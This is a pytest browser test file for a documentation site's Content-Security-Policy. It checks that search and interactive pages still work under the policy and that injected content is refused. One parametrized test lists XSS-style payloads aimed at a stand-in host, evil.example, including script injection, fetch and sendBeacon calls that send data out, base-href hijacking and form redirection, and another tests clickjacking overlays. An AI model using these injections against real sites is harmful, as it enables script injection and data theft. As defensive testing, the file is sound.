"""The Content-Security-Policy in a real browser: everything of the site works under it, nothing else does."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from archpublish import policy
from patience import until

pytestmark = pytest.mark.browser

_LISTEN = """window.refused = []; document.addEventListener('securitypolicyviolation',
    (event) => window.refused.push(`${event.violatedDirective}: ${event.blockedURI}`))"""


@pytest.fixture(scope="module")
def tab(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(_LISTEN)
    yield context.new_page()
    context.close()


def test_search_lives_under_the_policy(tab: Any, site_address: str) -> None:
    tab.goto(site_address)
    tab.wait_for_timeout(300)
    tab.keyboard.press("/")
    tab.keyboard.type("GQA")
    tab.wait_for_selector(".md-search-result__link", timeout=20_000)

    assert tab.evaluate("window.refused") == []


def test_explorables_live_under_the_policy(tab: Any, site_address: str) -> None:
    docs = Path(__file__).resolve().parents[2] / "docs"
    pages = [path for path in docs.rglob("architectures/**/*.md") if "/// explorable" in path.read_text("utf-8")]
    assert len(pages) > 5
    for path in pages:
        address = path.relative_to(docs).with_suffix("").as_posix() + "/"
        assert tab.goto(site_address + address.removesuffix("index/")).status == 200
        place = tab.locator("[data-explorable]").first
        place.scroll_into_view_if_needed()
        place.locator("input, select, button").first.wait_for(timeout=20_000)
        for control in place.locator("input[type=range]").all()[:2]:
            control.focus()
            tab.keyboard.press("ArrowRight")

        assert tab.evaluate("window.refused") == [], path


def test_the_palette_and_the_calculators_live_under_the_policy(tab: Any, site_address: str) -> None:
    tab.goto(site_address + "tools/calculators/")
    tab.locator(".md-header__option label:visible").click()
    tab.locator("[data-explorable] select").first.wait_for(timeout=20_000)

    assert tab.evaluate("window.refused") == []


def add(html: str, then: str = "") -> str:
    """A script that puts markup into the page."""
    return f"document.body.insertAdjacentHTML('beforeend', `{html}`); {then}"


def append(element: str, properties: str) -> str:
    """A script that puts an element into the page."""
    return f"document.body.append(Object.assign({element}, {{{properties}}}))"


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        (append("document.createElement('script')", "text: 'window.ran = 1'"), "script-src"),
        (add("<img src=x onerror='window.ran = 1'>"), "script-src"),
        (add("<a id=l href='javascript:window.ran = 1'>x</a>", "l.click()"), "script-src"),
        (append("document.createElement('script')", "src: 'https://evil.example/x.js'"), "script-src"),
        ("fetch('https://evil.example/').catch(() => 0)", "connect-src"),
        ("navigator.sendBeacon('https://evil.example/', 'x')", "connect-src"),
        (append("new Image()", "src: 'https://evil.example/x.png'"), "img-src"),
        (add("<style>@import url(https://evil.example/x.css)</style>"), "style-src"),
        (add("<p style='background:url(https://evil.example/x)'>x</p>"), "img-src"),
        (add("<iframe src='https://evil.example/'></iframe>"), "frame-src"),
        (add("<object data='x.swf'></object>"), "object-src"),
        ("document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')", "base-uri"),
        ("new Worker(URL.createObjectURL(new Blob(['1'])))", "worker-src"),
        (add("<form id=f action='https://evil.example/'></form>", "f.submit()"), "form-action"),
        ("try { setTimeout('window.ran = 1', 0) } catch (error) { }", "script-src"),
    ],
)
def test_what_is_not_of_the_site_does_not_run(tab: Any, site_address: str, attempt: str, directive: str) -> None:
    tab.goto(site_address + "architectures/")
    # As the page itself would do it: what a test evaluates from outside is under no policy.
    tab.evaluate(f"() => {{ try {{ {attempt} }} catch (error) {{ }} }}")
    until(tab, "window.refused.length > 0")

    assert any(refused.startswith(directive) for refused in tab.evaluate("window.refused"))
    assert tab.evaluate("window.ran") is None


def test_the_site_has_its_headers(built_site: Path) -> None:
    lines = (built_site / "_headers").read_text("utf-8").splitlines()

    assert lines[0] == "/*"
    assert any("frame-ancestors 'none'" in line and "'unsafe-eval'" not in line for line in lines)
    hashes = set(lines[1].split("script-src ")[1].split(";")[0].split())
    for page in ("index.html", "404.html", "architectures/recurrent/retnet/index.html"):
        html = (built_site / page).read_text("utf-8")
        assert set(html.split("script-src ")[1].split(";")[0].split()) <= hashes


def test_files_of_a_theme_have_their_hashes_and_pages_do_without_its_script(built_site: Path, tmp_path: Path) -> None:
    bundle = "assets/javascripts/bundle.79ae519e.min.js"
    (tmp_path / bundle).parent.mkdir(parents=True)
    (tmp_path / bundle).write_text("1", encoding="utf-8")
    html = policy.with_policy(f'<html><head></head><body><script src="{bundle}"></script></body></html>', tmp_path)

    assert html.count(' integrity="sha384-') == 1
    assert "/bundle." not in (built_site / "architectures/index.html").read_text("utf-8")


def test_an_unknown_script_is_refused() -> None:
    with pytest.raises(policy.UnknownScriptError, match=r"not known: alert\(1\)"):
        policy.with_policy("<html><head></head><body><script>alert(1)</script></body></html>")


@pytest.mark.parametrize("kind", ["application/json", "application/ld+json", "text/template"])
def test_data_are_no_scripts(kind: str) -> None:
    assert policy.scripts(f'<script type="{kind}">{{"a": 1}}</script>') == []


@pytest.mark.parametrize(
    "style",
    [
        "position:absolute;left:-600px;top:-300px;width:3000px;height:5000px",
        "position:relative;display:block;margin:-600px;width:3000px;height:5000px",
        "display:block;margin-top:-600px;margin-left:-900px;width:3000px;height:3000px",
    ],
)
def test_a_page_cannot_lie_over_the_navigation(tab: Any, site_address: str, style: str) -> None:
    """Each of these styles is allowed in a page, for figures and formulas; a link that wide would catch every click."""
    tab.goto(site_address + "architectures/recurrent/deltanet/")
    covered = tab.evaluate(
        """(style) => {
            const link = document.createElement('a');
            link.href = 'https://evil.example';
            link.setAttribute('style', style);
            document.querySelector('article').prepend(link);
            const parts = [...document.querySelectorAll('.md-header a, .md-header button, .md-sidebar a')];
            const seen = parts.map((part) => part.getBoundingClientRect())
                .filter((box) => box.width && box.top > 0 && box.bottom < innerHeight && box.left > 0);
            const hit = seen.map((box) => document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2));
            return [seen.length, hit.filter((element) => element === link).length];
        }""",
        style,
    )

    assert covered[0] > 5
    assert covered[1] == 0
